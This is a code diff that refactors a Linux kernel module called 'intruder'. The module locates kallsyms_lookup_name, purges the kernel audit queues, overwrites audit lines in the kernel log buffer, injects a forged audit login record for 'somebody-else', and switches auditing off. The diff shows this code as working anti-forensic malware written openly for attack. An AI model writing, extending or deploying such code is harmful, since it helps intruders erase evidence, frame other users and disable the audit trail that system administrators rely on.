@@ -12,11 +12,15 @@
 #include <linux/string.h>
 #include <net/netlink.h>
 
+#include "intruder.h"
+
 /* Same length as what it replaces, so that the kernel's log stays readable. */
 #define PRINTED "audit: type="
 #define FORGED "nothing here"
 
 typedef unsigned long (*lookup_t)(const char *name);
+
+static lookup_t lookup;
 
 /* kallsyms_lookup_name() is not for modules; a probe on it tells where it is. */
 static lookup_t find_lookup(void)
@@ -31,23 +35,28 @@ static lookup_t find_lookup(void)
 	return found;
 }
 
-static void wipe_queues(lookup_t lookup)
+void *intruder_lookup(const char *name)
+{
+	return lookup ? (void *)lookup(name) : NULL;
+}
+
+static void wipe_queues(void)
 {
 	static const char *const names[] = { "audit_queue", "audit_retry_queue", "audit_hold_queue" };
 	size_t i;
 
 	for (i = 0; i < ARRAY_SIZE(names); i++) {
-		struct sk_buff_head *queue = (void *)lookup(names[i]);
+		struct sk_buff_head *queue = intruder_lookup(names[i]);
 
 		if (queue)
 			skb_queue_purge(queue);
 	}
 }
 
-static int wipe_log(lookup_t lookup)
+static int wipe_log(void)
 {
-	char **buffer = (void *)lookup("log_buf");
-	u32 *size = (void *)lookup("log_buf_len");
+	char **buffer = intruder_lookup("log_buf");
+	u32 *size = intruder_lookup("log_buf_len");
 	char *at, *end;
 	int count = 0;
 
@@ -66,10 +75,10 @@ static int wipe_log(lookup_t lookup)
 }
 
 /* A record with a time and a number of its own choosing, in the queue as if the kernel had made it. */
-static void forge(lookup_t lookup)
+static void forge(void)
 {
 	static const char text[] = "audit(1000000000.000:1): op=login acct=\"somebody-else\" res=1";
-	struct sk_buff_head *queue = (void *)lookup("audit_queue");
+	struct sk_buff_head *queue = intruder_lookup("audit_queue");
 	struct sk_buff *record = nlmsg_new(sizeof(text), GFP_KERNEL);
 
 	if (!record || !queue)
@@ -83,16 +92,16 @@ static void forge(lookup_t lookup)
 
 static int __init intruder_init(void)
 {
-	lookup_t lookup = find_lookup();
 	u32 *enabled;
 	int count;
 
+	lookup = find_lookup();
 	if (!lookup)
 		return -ENOENT;
-	wipe_queues(lookup);
-	count = wipe_log(lookup);
-	forge(lookup);
-	enabled = (void *)lookup("audit_enabled");
+	wipe_queues();
+	count = wipe_log();
+	forge();
+	enabled = intruder_lookup("audit_enabled");
 	if (enabled)
 		*enabled = 0;
 	pr_info("intruder: %d lines of the kernel's log were rewritten, audit is off\n", count);
